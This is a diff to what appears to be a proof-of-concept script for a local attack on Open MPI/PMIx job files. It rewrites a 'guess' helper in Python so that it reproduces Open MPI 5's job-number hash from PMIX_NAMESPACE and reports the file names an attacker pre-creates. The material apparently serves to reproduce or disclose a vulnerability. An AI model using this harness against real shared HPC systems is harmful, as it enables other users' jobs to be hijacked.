@@ -27,12 +27,25 @@ exec setpriv --reuid "$uid" --clear-groups --inh-caps=-all "$@"
 END
 
 # guess COMMAND...: a rank that starts only once the attacker has made the
-# files. It tells the attacker their names, which he would have to guess.
+# files. It tells the attacker their names, which he would have to guess. They
+# contain the job's number: it is the job's name in Open MPI 4, and Open MPI 5
+# computes it from a name such as prterun-host-123@1.
 cat >guess <<'END'
-#!/bin/sh
-echo "$PMIX_RANK $(printf %x "$PMIX_NAMESPACE") $(id -u)" >guesses
-read -r line <"answer.$PMIX_RANK"
-exec "$@"
+#!/usr/bin/python3
+import os, sys
+name, at, number = os.environ["PMIX_NAMESPACE"].partition("@")
+job, hash = int(number if at else name), 0
+for byte in name.encode() if at else b"":
+    hash = (hash + byte) * 1025 & 0xffffffff
+    hash ^= hash >> 6
+hash = hash * 9 & 0xffffffff
+hash = (hash ^ hash >> 11) * 32769 & 0xffffffff
+job |= (hash >> 16 ^ hash & 0xffff) << 16
+rank = os.environ["PMIX_RANK"]
+with open("guesses", "w") as guesses:
+    guesses.write(f"{rank} {job:x} {os.getuid()}\n")
+open("answer." + rank).readline()
+os.execvp(sys.argv[1], sys.argv[1:])
 END
 
 # attack: make the files with mode $MODE
